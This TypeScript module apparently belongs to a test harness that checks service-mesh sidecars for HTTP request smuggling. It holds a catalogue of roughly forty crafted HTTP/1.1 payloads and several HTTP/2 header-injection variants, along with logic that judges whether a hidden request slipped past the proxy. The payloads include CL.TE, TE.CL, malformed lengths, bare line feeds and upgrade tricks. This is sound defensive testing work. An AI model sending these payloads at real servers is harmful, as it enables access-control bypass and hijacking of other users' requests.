/** Requests hidden in others: what the proxy takes for a body and the application for a request, or the other way round. */
import type { FlowRecord } from "../model/flow-record.ts";
import type { Attack, AttackStep } from "./attack.ts";
import { type Attempt, conclude } from "./conclude.ts";
import { recordsOf } from "./flow-evidence.ts";
import { http2Request } from "./http2-request.ts";
import { type HttpAttempt, requestBytes, sendToSidecar } from "./mesh-request.ts";
import type { MeshUnderAttack } from "./mesh-under-attack.ts";
import { type AllowedCall, callableTargets, type HttpTarget } from "./targets.ts";

const ID = "m7";
/** Requests of others after the attack: one that gets the hidden request's answer shows that the two sides lost step. */
const FOLLOWERS = 3;

export const smuggling: Attack = {
  id: ID,
  title: "request smuggling",
  rows: ["M7"],
  needs: "a workload with a sidecar whose HTTP port somebody may call, with the built-in application",
  sequential: true,
  plan(mesh) {
    // Every sidecar runs the same code: one target stands for all.
    return callableTargets(mesh)
      .slice(0, 1)
      .flatMap(({ target, call }) => [
        ...smuggledHeads(target, call).map((smuggled) => rawStep(mesh, target, call, smuggled)),
        ...HTTP2_VARIANTS.map((variant) => http2Step(mesh, target, call, variant)),
      ]);
  },
};

interface Smuggled {
  readonly tried: string;
  readonly bytes: Buffer;
}

/** Unlike any path of a follower, so that an answer to it cannot be mistaken. */
export const HIDDEN_PATH = "/smuggled-request";

function smuggledHeads(target: HttpTarget, { request }: AllowedCall): readonly Smuggled[] {
  const { host } = target;
  const hidden = `GET ${HIDDEN_PATH} HTTP/1.1\r\nhost: ${host}\r\n\r\n`;
  const post = `POST ${request.path} HTTP/1.1\r\nhost: ${host}\r\n`;
  const chunkedHidden = `0\r\n\r\n${hidden}`;
  const size = chunkedHidden.length;
  const both = (lines: string) => `${post}${lines}\r\n\r\n${chunkedHidden}`;
  const te = (line: string) => `${post}content-length: ${size}\r\n${line}\r\n\r\n${chunkedHidden}`;
  const variants: Readonly<Record<string, string>> = {
    "CL.TE": both(`content-length: ${size}\r\ntransfer-encoding: chunked`),
    "TE.CL": `${post}transfer-encoding: chunked\r\ncontent-length: 4\r\n\r\n${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`,
    "TE.TE: an odd spelling": te("transfer-encoding: xchunked"),
    "TE: chunked twice": both("transfer-encoding: chunked, chunked"),
    "TE: identity beside chunked": both("transfer-encoding: identity, chunked"),
    "TE: a space before the colon": te("transfer-encoding : chunked"),
    "TE: a tab before the value": te("transfer-encoding:\tchunked"),
    "TE: a vertical tab": te("transfer-encoding: \x0bchunked"),
    "TE: folded line": te("transfer-encoding:\r\n chunked"),
    "TE: underscores": te("transfer_encoding: chunked"),
    "TE in HTTP/1.0": both("transfer-encoding: chunked").replace("HTTP/1.1", "HTTP/1.0"),
    "two lengths": both(`content-length: 0\r\ncontent-length: ${size}`),
    "two lengths in one line": both(`content-length: 0, ${size}`),
    "a length with a sign": both(`content-length: +${size}`),
    "a length in hexadecimal": both("content-length: 0x10"),
    "a length with a space in it": both(`content-length: ${size} 0`),
    "a negative length": both("content-length: -1"),
    "a length beyond 64 bits": both("content-length: 18446744073709551616"),
    "a length on a GET": `GET ${request.path} HTTP/1.1\r\nhost: ${host}\r\ncontent-length: ${hidden.length}\r\n\r\n${hidden}`,
    "a bare LF after a header": `${post}x: y\ncontent-length: ${hidden.length}\r\n\r\n${hidden}`,
    "bare LFs as the head's end": `${post.replaceAll("\r\n", "\n")}content-length: 0\n\n${hidden}`,
    "a bare CR in a header": `${post}x: y\rcontent-length: ${hidden.length}\r\n\r\n${hidden}`,
    "a NUL in a header": `${post}x: \0\r\ncontent-length: 0\r\n\r\n${hidden}`,
    "a header without a name": `${post}: x\r\ncontent-length: 0\r\n\r\n${hidden}`,
    "a first header that is folded": `POST ${request.path} HTTP/1.1\r\n host: ${host}\r\ncontent-length: 0\r\n\r\n${hidden}`,
    "a chunk extension with a bare LF": `${post}transfer-encoding: chunked\r\n\r\n2;\nxx\r\n${hidden.length.toString(16)}\r\n0\r\n\r\n${hidden}`,
    "a chunk size with a sign": `${post}transfer-encoding: chunked\r\n\r\n+0\r\n\r\n${hidden}`,
    "a chunk size that overflows": `${post}transfer-encoding: chunked\r\n\r\n10000000000000000\r\n\r\n${hidden}`,
    "a chunk that ends in a bare LF": `${post}transfer-encoding: chunked\r\n\r\n1\nx\n0\n\n${hidden}`,
    "a chunk longer than its size": `${post}transfer-encoding: chunked\r\n\r\n1\r\nxx\r\n0\r\n\r\n${hidden}`,
    "a trailer that says a length": `${post}transfer-encoding: chunked\r\n\r\n0\r\ncontent-length: ${hidden.length}\r\n\r\n`,
    "a request in the trailers": `${post}transfer-encoding: chunked\r\n\r\n0\r\n${hidden}`,
    "Expect with the body at once": `${post}expect: 100-continue\r\ncontent-length: ${hidden.length}\r\n\r\n${hidden}`,
    "an upgrade to h2c": `GET ${request.path} HTTP/1.1\r\nhost: ${host}\r\nconnection: upgrade, http2-settings\r\nupgrade: h2c\r\nhttp2-settings: AAMAAABkAAQAAP__\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n`,
    "an upgrade to WebSocket that the application refuses": `GET ${request.path} HTTP/1.1\r\nhost: ${host}\r\nconnection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 99\r\n\r\n${hidden}`,
    "a line in the request target": `GET ${request.path}\r\nx: HTTP/1.1\r\nhost: ${host}\r\n\r\n${hidden}`,
    "HTTP/0.9": `GET ${HIDDEN_PATH}\r\n\r\n`,
  };
  return Object.entries(variants).map(([tried, text]) => ({ tried, bytes: Buffer.from(text, "latin1") }));
}

function rawStep(
  mesh: MeshUnderAttack,
  target: HttpTarget,
  call: AllowedCall,
  { tried, bytes }: Smuggled,
): AttackStep {
  return smugglingStep(mesh, target, call, tried, async () =>
    sendToSidecar({
      target,
      from: call.source,
      credentials: await mesh.identityOf(call.source),
      conversation: { say: [bytes], quietMs: 120, timeoutMs: 1200 },
    }),
  );
}

/** Headers by which an HTTP/2 request breaks out when it is written as HTTP/1.1. */
const HTTP2_VARIANTS: readonly {
  readonly tried: string;
  readonly headers: Readonly<Record<string, string>>;
}[] = [
  { tried: "H2.CL: a length that is not the body's", headers: { "content-length": "4" } },
  { tried: "H2.TE: transfer-encoding", headers: { "transfer-encoding": "chunked" } },
  {
    tried: "H2: a line break in a header's value",
    headers: { "x-a": `b\r\n\r\nGET ${HIDDEN_PATH} HTTP/1.1\r\nhost: x\r\n\r\n` },
  },
  {
    tried: "H2: a line break in the path",
    headers: { ":path": `/ HTTP/1.1\r\nhost: x\r\n\r\nGET ${HIDDEN_PATH}` },
  },
  {
    tried: "H2: a line break in the method",
    headers: { ":method": `GET ${HIDDEN_PATH} HTTP/1.1\r\nhost: x\r\n\r\nGET` },
  },
  {
    tried: "H2: a line break in the authority",
    headers: { ":authority": `x\r\n\r\nGET ${HIDDEN_PATH} HTTP/1.1\r\nhost: x` },
  },
  {
    tried: "H2: connection-specific headers",
    headers: { connection: "transfer-encoding", "keep-alive": "1" },
  },
];

function http2Step(
  mesh: MeshUnderAttack,
  target: HttpTarget,
  call: AllowedCall,
  { tried, headers }: (typeof HTTP2_VARIANTS)[number],
): AttackStep {
  return smugglingStep(mesh, target, call, tried, async () =>
    http2Request(target, call, await mesh.identityOf(call.source), headers),
  );
}

function smugglingStep(
  mesh: MeshUnderAttack,
  target: HttpTarget,
  call: AllowedCall,
  tried: string,
  send: () => Promise<HttpAttempt>,
): AttackStep {
  const step = {
    tried,
    from: `${call.source.workload} (its certificate)`,
    target: `${target.workload.key}:${target.port}`,
  };
  return {
    ...step,
    run: async () => {
      const [control] = await follow(mesh, target, call, 1);
      if (control === undefined) throw new Error("BUG: no control");
      const attempt = await send();
      // Followers that fail where the control failed before say nothing about the attack.
      const judged = control.reached
        ? await judge(mesh, attempt, await follow(mesh, target, call, FOLLOWERS))
        : { ...attempt, reached: false };
      const promised = {
        allowed: false,
        words: "the application sees no request that was not decided by itself",
      };
      return [await conclude(mesh, { attack: ID, step, promised, control, attempt: judged })];
    },
  };
}

/** Legitimate requests, each on a connection of its own, as other clients would make them. */
async function follow(
  mesh: MeshUnderAttack,
  target: HttpTarget,
  { source, request }: AllowedCall,
  count: number,
): Promise<readonly HttpAttempt[]> {
  const credentials = await mesh.identityOf(source);
  const conversation = { say: [requestBytes(request)] };
  const attempts: HttpAttempt[] = [];
  for (let i = 0; i < count; i++)
    attempts.push(await sendToSidecar({ target, from: source, credentials, conversation }));
  return attempts;
}

/**
 * Smuggled: the application saw the hidden path without a decision of its own, or a follower got an answer that was not its.
 * A request behind another on one connection is no smuggling where it was decided, and logged, as one.
 */
async function judge(
  mesh: MeshUnderAttack,
  attempt: HttpAttempt,
  followers: readonly HttpAttempt[],
): Promise<Attempt> {
  const seenByFollower = followers.some(({ echoes }) => echoes.some(({ path }) => path === HIDDEN_PATH));
  const lostStep = followers.some(({ echoes, answers }) => answers.length !== 1 || echoes.length !== 1);
  const seen = attempt.echoes.filter(({ path }) => path === HIDDEN_PATH).length;
  const decided = seen === 0 ? 0 : await decisionsOn(mesh, attempt);
  const smuggled = seenByFollower || seen > decided;
  const words = smuggled
    ? "the application saw a request that was not decided"
    : lostStep
      ? "the next clients' answers are out of step"
      : seen > 0
        ? `${attempt.happened}; what followed was decided as a request of its own`
        : attempt.happened;
  const broken = smuggled || lostStep;
  const answered = attempt.echoes.length > 0 || attempt.answers.some(({ status }) => status < 300);
  return {
    ...attempt,
    reached: broken,
    happened: words,
    ...(answered && !broken ? { harmless: "proxy and application read the same requests in it" } : {}),
  };
}

async function decisionsOn(mesh: MeshUnderAttack, { local, startedAtMs }: HttpAttempt): Promise<number> {
  if (local === undefined) return 0;
  const isHidden = ({ kind, path }: FlowRecord) => kind === "request" && path === HIDDEN_PATH;
  const records = await recordsOf(mesh, local, startedAtMs, (found) => found.some(isHidden));
  return records.filter(isHidden).length;
}
